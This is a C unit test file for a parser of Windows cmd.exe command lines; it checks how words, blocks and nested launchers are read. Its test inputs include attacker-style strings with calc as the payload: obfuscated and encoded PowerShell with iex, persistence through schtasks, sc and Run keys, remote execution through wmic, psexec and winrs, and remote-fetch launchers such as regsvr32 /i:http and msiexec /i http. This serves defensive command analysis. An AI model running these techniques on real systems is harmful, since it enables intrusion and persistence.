/*-------------------------------------------------------------------------
 *
 * test_command_cmd.c
 *		How cmd.exe is read: words, blocks, and what stands in arguments.
 *
 *-------------------------------------------------------------------------
 */
#include "unit.h"

#include "command_list.h"

static const CommandCase words[] = {
	{"del /f /s /q \"C:\\a b\\*\" C:\\x* & dir/s/b&&copy a+b,c || type d",
	 "del </f> </s> </q> <C:\\a b\\*> <C:\\x*>~\n"
	 "dir </s> </b>\n"
	 "copy <a+b> <c>\n"
	 "type <d>\n"},
	{"^p^o^w^e^r^s^h^e^l^l -nop & \"\"powershell\"\" -nop & pow\"\"ershell -nop & \"power\"shell.exe -nop",
	 "powershell <-nop>\n"
	 "powershell <-nop>\n"
	 "powershell <-nop>\n"
	 "powershell <-nop>\n"},
	{"cmd,/c;calc & cmd.exe/c calc & (foo) & @foo & ;,=foo & cd.. & echo. & del\"a b\"",
	 "cmd </c> <calc >\n"
	 "0s calc\n"
	 "cmd </c> <calc >\n"
	 "2s calc\n"
	 "foo\n"
	 "foo\n"
	 "foo\n"
	 "cd <..>\n"
	 "echo <.>\n"
	 "del <a b>\n"},
	{"foo \"a \"\"b\"\" c\" \\\"d e\\\" \"C:\\f g\\\" & foo a^&b ^\"c d^\" \"e^f\" ^^g",
	 "foo <a \"b\" c> <\"d> <e\"> <C:\\f g\" >\n"
	 "foo <a&b> <c d> <e^f> <^g>\n"},
	{"foo %PATH% %PATH:~0,3% %a:b=c d% !e! 100% %1 %~dp0 %%f% %ProgramFiles(x86)%\\g a*b",
	 "foo <%PATH%>~ <%PATH:~0,3%>~ <%a:b=c d%>~ <!e!>~ <100%> <%1>~ <%~dp0>~ <%%f%>~ <%ProgramFiles(x86)%\\g>~ <a*b>~\n"},
	{"echo 50% & del a & echo 60%", "echo <50%>\n"
									"del <a>\n"
									"echo <60%>\n"},
	{"foo > a 2>&1 & foo 2>nul >>\"b c\" < d & >e echo f & foo 12>g & foo>&2",
	 "foo [> a] [2>&1 ]\n"
	 "foo [2> nul] [>> b c] [< d]\n"
	 "echo <f> [> e]\n"
	 "foo <12> [> g]\n"
	 "foo [>&2 ]\n"},
	{"foo a^\n"
	 "b ^\n"
	 "  c\n"
	 "foo \"a\n"
	 "b\"",
	 "foo <ab> <c>\n"
	 "foo <a>\n"
	 "b\n"},
	{"a | b | c\n"
	 "a & b | c\n"
	 "(a & b) | c > d",
	 "a\n"
	 "| b\n"
	 "| c\n"
	 "a\n"
	 "b\n"
	 "| c\n"
	 "a\n"
	 "b\n"
	 "| c [> d]\n"},
	{"set a=b c& set \"d=e f\" & set /a g=1+2 & set /p h=i? < j & set & set k",
	 "set <a=b c> {a=b c}\n"
	 "set <d=e f > {d=e f }\n"
	 "set </a> <g=1+2 > {g=1+2 }\n"
	 "set </p> <h=i? >~ {h=i? }~ [< j]\n"
	 "set\n"
	 "set <k>\n"},
	{"echo a,b=c;d /e/f \"g h\" & foo a,b=c", "echo <a,b=c;d> </e/f> <g h>\n"
											  "foo <a,b=c>\n"},
	{"rem a & b\n"
	 ":: c & d\n"
	 ":label\n"
	 "rem& e\n"
	 "REM f\n"
	 "remove g",
	 "e\n"
	 "remove <g>\n"},
	{"%COMSPEC% /c foo & %a%%b% c & %windir%\\system32\\foo.exe d & %a:~3,1%oo",
	 "cmd </c> <foo >\n"
	 "0s foo\n"
	 " <c>\n"
	 "foo <d>\n"
	 "\n"},
};

static const CommandCase statements[] = {
	{"if exist \"a b\" (c) else (d) & if not exist e f & if /i \"%g%\"==\"h i\" j",
	 "c\n"
	 "d\n"
	 "f\n"
	 "j\n"},
	{"if errorlevel 1 (\n"
	 "  a\n"
	 "  b\n"
	 ") else if defined c (\n"
	 "  d\n"
	 ") else e",
	 "a\n"
	 "b\n"
	 "d\n"
	 "e\n"},
	{"if %a% == b c & if %a% EQU 3 d & if \"%a%\"==\"\" (e) & if not \"%a%\"==\"b\" f",
	 "c\n"
	 "d\n"
	 "e\n"
	 "f\n"},
	{"for %%i in (a b c) do del %%i & for /l %i in (1,1,3) do @foo %i",
	 "for <%%i>~ <in> <(a b c)>\n"
	 "del <%%i>~\n"
	 "for </l> <%i>~ <in> <(1,1,3)>\n"
	 "foo <%i>~\n"},
	{"for /f \"tokens=1,2 delims=,\" %%a in ('dir /b ^| find \"x)\"') do (\n"
	 "  echo %%a\n"
	 ")",
	 "for </f> <tokens=1,2 delims=,> <%%a>~ <in> <('dir /b ^| find \"x)\"')>\n"
	 "0$ dir </b>\n"
	 "0$ | find <x)>\n"
	 "echo <%%a>~\n"},
	{"for /f \"usebackq\" %%a in (`foo bar`) do baz & for /r C:\\x %%f in (*.log) do del \"%%f\"",
	 "for </f> <usebackq> <%%a>~ <in> <(`foo bar`)>\n"
	 "0$ foo <bar>\n"
	 "baz\n"
	 "for </r> <C:\\x> <%%f>~ <in> <(*.log)>\n"
	 "del <%%f>~\n"},
	{"goto :a & call :b c & call d.bat e & exit /b 1", "goto <:a>\n"
													   "call <:b> <c>\n"
													   "call <d.bat> <e>\n"
													   "2w d <e>\n"
													   "exit </b> <1>\n"},
	{"((a) & (b (c)))", "a\n"
						"b <(c>\n"},
};

static const CommandCase starting[] = {
	{"cmd /c \"del \"a b\" & calc\" & cmd /v:on /c echo a^&calc & echo del x | cmd",
	 "cmd </c> <del \"a b\" & calc >\n"
	 "0s del <a b>\n"
	 "0s calc\n"
	 "cmd </v:on> </c> <echo a&calc >\n"
	 "3s echo <a>\n"
	 "3s calc\n"
	 "echo <del> <x>\n"
	 "| cmd\n"
	 "7s del <x>\n"},
	{"powershell -c \"iex foo; bar\" & powershell.exe -nop -enc ZQBjAGgAbwAgAGgAaQA= & powershell \"& {foo}\" & echo foo a | powershell -noprofile -",
	 "powershell <-c> <iex foo; bar>\n"
	 "0s invoke-expression <foo>\n"
	 "1s foo\n"
	 "0s bar\n"
	 "powershell <-nop> <-enc> <ZQBjAGgAbwAgAGgAaQA=>\n"
	 "4e write-output <hi>\n"
	 "powershell <& {foo}>\n"
	 "6s & <{foo}>~\n"
	 "7b foo\n"
	 "echo <foo> <a>\n"
	 "| powershell <-noprofile> <->\n"
	 "10s foo <a>\n"},
	{"start \"a b\" /min /d C:\\x cmd /c dir & start calc & start \"\" \"a b.exe\" c & call cmd /c dir",
	 "start <a b> </min> </d> <C:\\x> <cmd> </c> <dir>\n"
	 "0w cmd </c> <dir>\n"
	 "1s dir\n"
	 "start <calc>\n"
	 "3w calc\n"
	 "start <> <a b.exe> <c>\n"
	 "5w a b <c>\n"
	 "call <cmd> </c> <dir>\n"
	 "7w cmd </c> <dir>\n"
	 "8s dir\n"},
	{"schtasks /create /tn a /tr \"powershell -c calc\" /sc daily & schtasks /run /tn a & at \\\\h 12:00 /every:M \"calc b\"",
	 "schtasks </create> </tn> <a> </tr> <powershell -c calc> </sc> <daily>\n"
	 "0w powershell <-c> <calc>\n"
	 "1s calc\n"
	 "schtasks </run> </tn> <a>\n"
	 "at <\\\\h> <12:00> </every:M> <calc b>\n"
	 "4w calc <b>\n"},
	{"wmic /node:h process call create \"cmd /c calc\" & wmic os get name & runas /user:a\\b \"cmd /c calc\"",
	 "wmic </node:h> <process> <call> <create> <cmd /c calc>\n"
	 "0w cmd </c> <calc>\n"
	 "1s calc\n"
	 "wmic <os> <get> <name>\n"
	 "runas </user:a\\b> <cmd /c calc>\n"
	 "4w cmd </c> <calc>\n"
	 "5s calc\n"},
	{"sc create a binPath= \"cmd /c calc\" start= auto & sc \\\\h config a binpath=calc & sc query a",
	 "sc <create> <a> <binPath=> <cmd /c calc> <start=> <auto>\n"
	 "0w cmd </c> <calc>\n"
	 "1s calc\n"
	 "sc <\\\\h> <config> <a> <binpath=calc>\n"
	 "3w calc\n"
	 "sc <query> <a>\n"},
	{"reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v a /t REG_SZ /d \"calc b\" /f & reg add HKCU\\a /d calc & reg query b",
	 "reg <add> <HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run> </v> <a> </t> <REG_SZ> </d> <calc b> </f>\n"
	 "0w calc <b>\n"
	 "reg <add> <HKCU\\a> </d> <calc>\n"
	 "reg <query> <b>\n"},
	{"psexec \\\\h -u a -p b -i 1 -s cmd /c calc & winrs -r:h \"dir & calc\"",
	 "psexec <\\\\h> <-u> <a> <-p> <b> <-i> <1> <-s> <cmd> </c> <calc>\n"
	 "0r cmd </c> <calc>\n"
	 "1s calc\n"
	 "winrs <-r:h> <dir & calc>\n"
	 "3r dir\n"
	 "3r calc\n"},
	{"forfiles /p C:\\ /m *.x /c \"cmd /c del @path\" & pcalua -a calc.exe -c b & conhost --headless calc & rundll32 shell32.dll,ShellExec_RunDLL calc a",
	 "forfiles </p> <C:\\> </m> <*.x>~ </c> <cmd /c del @path>\n"
	 "0w cmd </c> <del> <@path>\n"
	 "1s del <@path>\n"
	 "pcalua <-a> <calc.exe> <-c> <b>\n"
	 "3w calc <b>\n"
	 "conhost <--headless> <calc>\n"
	 "5w calc\n"
	 "rundll32 <shell32.dll,ShellExec_RunDLL> <calc> <a>\n"
	 "7w calc <a>\n"},
	{"rundll32 javascript:\"\\..\\mshtml,RunHTMLApplication \";alert(1) & mshta vbscript:Execute(\"a\") & regsvr32 /s /u /i:http://a/b scrobj.dll & msiexec /q /i http://a/b",
	 "rundll32 <javascript:\\..\\mshtml,RunHTMLApplication ;alert(1)>\n"
	 "mshta <vbscript:Execute(a)>\n"
	 "regsvr32 </s> </u> </i:http://a/b> <scrobj.dll>\n"
	 "msiexec </q> </i> <http://a/b>\n"},
	{"rundll32 zipfldr.dll, RouteTheCall calc a & SyncAppvPublishingServer.exe \"n; foo | iex\"",
	 "rundll32 <zipfldr.dll,> <RouteTheCall> <calc> <a>\n"
	 "0w calc <a>\n"
	 "syncappvpublishingserver <n; foo | iex>\n"
	 "2s foo\n"
	 "2s | invoke-expression\n"},
	{"bitsadmin /SetNotifyCmdLine j C:\\x.exe \"a b\"",
	 "bitsadmin </SetNotifyCmdLine> <j> <C:\\x.exe> <a b>\n"
	 "0w x <a> <b>\n"},
};

static const CommandCase unfinished[] = {
	{"(a", "a\n"
		   "incomplete: a closing parenthesis is missing\n"},
	{"for %i in (a", "for <%i>~ <in> <(a>\n"
					 "incomplete: a closing parenthesis is missing\n"},
	{"for %i", "for <%i>~\n"
			   "incomplete: the set of a loop is missing\n"},
	{"if", ""},
	{"if a", ""},
	{"foo \"a", "foo <a>\n"},
	{"foo ^", "foo <>\n"},
	{"a |", "a\n"},
	{"a)", "a)\n"},
	{"\"", "\n"},
	{"for /f %i in ('a", "for </f> <%i>~ <in> <('a>\n"
						 "incomplete: a closing parenthesis is missing\n"},
};

static void
words_become_what_the_program_gets(void **state)
{
	(void) state;
	CHECK_COMMANDS(LEARN_SHELL_CMD, words);
}

static void
statements_show_what_they_lead_to(void **state)
{
	(void) state;
	CHECK_COMMANDS(LEARN_SHELL_CMD, statements);
}

static void
what_stands_in_arguments_is_read(void **state)
{
	(void) state;
	CHECK_COMMANDS(LEARN_SHELL_CMD, starting);
}

static void
what_is_unfinished_is_read_as_far_as_it_goes(void **state)
{
	(void) state;
	CHECK_COMMANDS(LEARN_SHELL_CMD, unfinished);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(words_become_what_the_program_gets),
		cmocka_unit_test(statements_show_what_they_lead_to),
		cmocka_unit_test(what_stands_in_arguments_is_read),
		cmocka_unit_test(what_is_unfinished_is_read_as_far_as_it_goes),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
